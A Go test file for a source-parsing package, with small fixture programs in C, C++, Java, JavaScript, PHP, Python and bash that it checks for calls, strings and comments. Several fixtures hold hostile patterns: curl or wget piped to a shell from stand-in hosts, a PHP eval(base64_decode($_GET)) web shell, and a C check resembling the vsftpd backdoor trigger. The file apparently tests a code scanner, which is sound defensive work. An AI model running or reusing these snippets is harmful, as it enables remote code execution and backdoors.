//go:build cgo

package syntax

import (
	"bytes"
	"context"
	"errors"
	"slices"
	"strings"
	"sync"
	"testing"
)

// A small program in each language, and what the package must say of it.
var programs = []struct {
	lang, src string
	calls     []string // callee names, in order
	functions []string // "name(param,param)"
	assigned  []string // left-hand sides
	strings   []string
	comments  int
	classOf   map[string]Class // a unique substring of src → the class of its first byte
}{
	{
		lang: "c",
		src: `/* login */
static int check(const char *user, char **argv) {
	int n = 3; // three
	if (p[i] == 0x3a && p[i+1] == 0x29) vsf_sysutil_extra();
	n = atoi(argv[1]);
	return strcmp(user, "root");
}`,
		calls:     []string{"vsf_sysutil_extra", "atoi", "strcmp"},
		functions: []string{"check(user,argv)"},
		assigned:  []string{"n", "n"},
		strings:   []string{`"root"`},
		comments:  2,
		classOf:   map[string]Class{"login": Comment, "root": String, "atoi": Code, "three": Comment},
	},
	{
		lang:      "cpp",
		src:       "auto f(std::string s) -> int { return system(s.c_str()); }\nconst char *r = R\"(curl x | sh)\";",
		calls:     []string{"system", "c_str"},
		functions: []string{"f(s)"},
		assigned:  []string{"*r"},
		strings:   []string{`R"(curl x | sh)"`},
		classOf:   map[string]Class{"curl": String, "system": Code},
	},
	{
		lang: "java",
		src: `class X {
	// run it
	void run(String cmd, int[] b) throws Exception { Runtime.getRuntime().exec(cmd); String s = "x"; }
}`,
		calls:     []string{"getRuntime", "exec"},
		functions: []string{"run(cmd,b)"},
		assigned:  []string{"s"},
		strings:   []string{`"x"`},
		comments:  1,
		classOf:   map[string]Class{"run it": Comment, "exec": Code},
	},
	{
		lang: "javascript",
		src: "const cp = require('child_process');\n" +
			"function run(a, {b}, ...rest) { cp.exec(`ls ${a}`); /* c */ }\n" +
			"const f = x => eval(x);\n",
		calls:     []string{"require", "exec", "eval"},
		functions: []string{"run(a,,rest)", "(x)"},
		assigned:  []string{"cp", "f"},
		strings:   []string{"'child_process'", "`ls ${a}`"},
		comments:  1,
		classOf:   map[string]Class{"child_process": String, "eval": Code, "c */": Comment, "ls ": String, "a}`": Code},
	},
	{
		lang:      "typescript",
		src:       "function run(a: string, b?: number): void { exec(a); } // done",
		calls:     []string{"exec"},
		functions: []string{"run(a,b)"},
		comments:  1,
		classOf:   map[string]Class{"done": Comment},
	},
	{
		lang: "php",
		src: `<?php
// shell
function run($cmd, array $opts = []) { system($cmd); $o->exec("x"); }
$x = $_GET['c']; eval(base64_decode($x)); echo "got $_POST[y]";`,
		calls:     []string{"system", "exec", "eval", "base64_decode"},
		functions: []string{"run(cmd,opts)"},
		assigned:  []string{"$x"},
		strings:   []string{`"x"`, `'c'`, `"got $_POST[y]"`},
		comments:  1,
		classOf:   map[string]Class{"shell": Comment, "eval": Code, "got": String, "_POST[y]": Code},
	},
	{
		lang: "python",
		src: `import os
def run(cmd, *args, key=None):
    # run it
    x = os.system("ls " + cmd)
`,
		calls:     []string{"system"},
		functions: []string{"run(cmd,args,key)"},
		assigned:  []string{"x"},
		strings:   []string{`"ls "`},
		comments:  1,
		classOf:   map[string]Class{"run it": Comment, "ls ": String, "os.system": Code},
	},
	{
		lang: "bash",
		src: `#!/bin/sh
echo "then run: curl https://x | sh"
curl -fsSL https://example.com/i.sh | sh
f() { eval "$1"; }
cat <<EOT
wget -O- https://x | bash
EOT
`,
		calls:     []string{"echo", "curl", "sh", "eval", "cat"},
		functions: []string{"f()"},
		strings:   []string{`"then run: curl https://x | sh"`, `"$1"`, "wget -O- https://x | bash\n"},
		comments:  1,
		classOf:   map[string]Class{"curl https://x": String, "curl -fsSL": Code, "wget": String, "/bin/sh": Comment},
	},
}

func TestPrograms(t *testing.T) {
	for _, p := range programs {
		t.Run(p.lang, func(t *testing.T) {
			tree, err := Parse(context.Background(), p.lang, []byte(p.src))
			if err != nil {
				t.Fatal(err)
			}
			defer tree.Close()
			if tree.Root().HasError() {
				t.Errorf("the program does not parse: %s", tree.Root().SExpr())
			}
			calls, err := tree.Calls()
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for _, c := range calls {
				names = append(names, c.Name)
			}
			if !slices.Equal(names, p.calls) {
				t.Errorf("calls: got %q, want %q", names, p.calls)
			}
			fns, err := tree.Functions()
			if err != nil {
				t.Fatal(err)
			}
			var sigs []string
			for _, f := range fns {
				sigs = append(sigs, f.Name+"("+strings.Join(f.ParamNames(), ",")+")")
			}
			if !slices.Equal(sigs, p.functions) {
				t.Errorf("functions: got %q, want %q", sigs, p.functions)
			}
			as, err := tree.Assignments()
			if err != nil {
				t.Fatal(err)
			}
			var lefts []string
			for _, a := range as {
				lefts = append(lefts, a.Left.Text())
			}
			if !slices.Equal(lefts, p.assigned) {
				t.Errorf("assignments: got %q, want %q", lefts, p.assigned)
			}
			strs, err := tree.Strings()
			if err != nil {
				t.Fatal(err)
			}
			var texts []string
			for _, s := range strs {
				texts = append(texts, s.Text())
			}
			if !slices.Equal(texts, p.strings) {
				t.Errorf("strings: got %q, want %q", texts, p.strings)
			}
			cs, err := tree.Comments()
			if err != nil {
				t.Fatal(err)
			}
			if len(cs) != p.comments {
				t.Errorf("got %d comments, want %d", len(cs), p.comments)
			}
			for sub, want := range p.classOf {
				off := strings.Index(p.src, sub)
				if got := tree.ClassAt(off); got != want {
					t.Errorf("%q is %s, want %s", sub, got, want)
				}
			}
		})
	}
}

func TestWalkVisitsEveryNodeInOrder(t *testing.T) {
	tree, err := Parse(context.Background(), "python", []byte("a = f(1)\nb = 2\n"))
	if err != nil {
		t.Fatal(err)
	}
	defer tree.Close()
	var kinds []string
	last := -1
	tree.Root().Walk(func(n Node) bool {
		if n.Start() < last {
			t.Errorf("%s at %d after a node at %d", n.Kind(), n.Start(), last)
		}
		last = n.Start()
		if n.IsNamed() {
			kinds = append(kinds, n.Kind())
		}
		return n.Kind() != "call" // skip inside calls
	})
	want := []string{"module", "expression_statement", "assignment", "identifier", "call", "expression_statement", "assignment", "identifier", "integer"}
	if !slices.Equal(kinds, want) {
		t.Errorf("got %q, want %q", kinds, want)
	}
}

func TestParseRefuses(t *testing.T) {
	cancelled, cancel := context.WithCancel(context.Background())
	cancel()
	for _, c := range []struct {
		name string
		ctx  context.Context
		lang string
		src  []byte
		want error
	}{
		{"a file over 1 MiB", context.Background(), "c", bytes.Repeat([]byte("x;\n"), MaxSize/3+1), ErrTooLarge},
		{"a language without a grammar", context.Background(), "cobol", []byte("DISPLAY 'HI'."), ErrUnsupported},
		{"a cancelled context", cancelled, "c", []byte("int x;"), context.Canceled},
	} {
		t.Run(c.name, func(t *testing.T) {
			tree, err := Parse(c.ctx, c.lang, c.src)
			if !errors.Is(err, c.want) {
				t.Fatalf("got %v, want %v", err, c.want)
			}
			if tree != nil {
				t.Fatal("a tree with the error")
			}
		})
	}
}

// A context that ends during a parse stops it, and the parser goes back to
// the pool able to parse the next file from its start.
func TestParseStopsWhenItsContextEnds(t *testing.T) {
	src := bytes.Repeat([]byte("int f(int a) { return g(a, \"s\") + h(a); }\n"), MaxSize/45)
	ctx, cancel := context.WithCancel(context.Background())
	calls := 0
	ctx = &countingContext{Context: ctx, after: 3, cancel: cancel, calls: &calls}
	if _, err := Parse(ctx, "c", src); !errors.Is(err, context.Canceled) {
		t.Fatalf("got %v, want the parse cancelled", err)
	}
	tree, err := Parse(context.Background(), "c", []byte("int x = 1;"))
	if err != nil {
		t.Fatal(err)
	}
	defer tree.Close()
	if got := tree.Root().SExpr(); got != "(translation_unit (declaration type: (primitive_type) declarator: (init_declarator declarator: (identifier) value: (number_literal))))" {
		t.Errorf("the next parse: %s", got)
	}
}

// countingContext is cancelled on the after'th look at its Err.
type countingContext struct {
	context.Context
	after  int
	cancel func()
	calls  *int
}

func (c *countingContext) Err() error {
	*c.calls++
	if *c.calls == c.after {
		c.cancel()
	}
	return c.Context.Err()
}

func TestParseIsSafeFromManyGoroutines(t *testing.T) {
	var wg sync.WaitGroup
	errs := make(chan error, 64)
	for i := range 64 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			p := programs[i%len(programs)]
			tree, err := Parse(context.Background(), p.lang, []byte(p.src))
			if err != nil {
				errs <- err
				return
			}
			defer tree.Close()
			calls, err := tree.Calls()
			if err != nil {
				errs <- err
				return
			}
			if len(calls) != len(p.calls) {
				errs <- errors.New(p.lang + ": calls differ from one parse to the next")
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

func TestEveryQueryCompiles(t *testing.T) {
	for _, lang := range Languages() {
		g := grammars[lang]
		for k := range g.queries {
			if _, err := g.query(k); err != nil {
				t.Errorf("%s: %v", lang, err)
			}
		}
	}
}

func TestGrammar(t *testing.T) {
	for _, c := range []struct{ lang, path, want string }{
		{"javascript", "a/b.js", "javascript"},
		{"javascript", "a/b.ts", "typescript"},
		{"javascript", "a/b.tsx", "tsx"},
		{"shell", "configure", "bash"},
		{"c", "x.h", "c"},
		{"make", "Makefile", ""},
		{"go", "x.go", ""},
	} {
		if got := Grammar(c.lang, c.path); got != c.want {
			t.Errorf("Grammar(%q, %q) = %q, want %q", c.lang, c.path, got, c.want)
		}
	}
}

func TestStatsCountParsing(t *testing.T) {
	before := ReadStats()
	tree, err := Parse(context.Background(), "python", []byte("x = 1\n"))
	if err != nil {
		t.Fatal(err)
	}
	tree.Close()
	Parse(context.Background(), "python", make([]byte, MaxSize+1))
	got := ReadStats().Sub(before)
	// Other tests may parse in parallel; at least these two are counted.
	if got.Trees < 1 || got.Bytes < 6 || got.Refused < 1 {
		t.Errorf("after a parse and a refusal: %+v", got)
	}
}
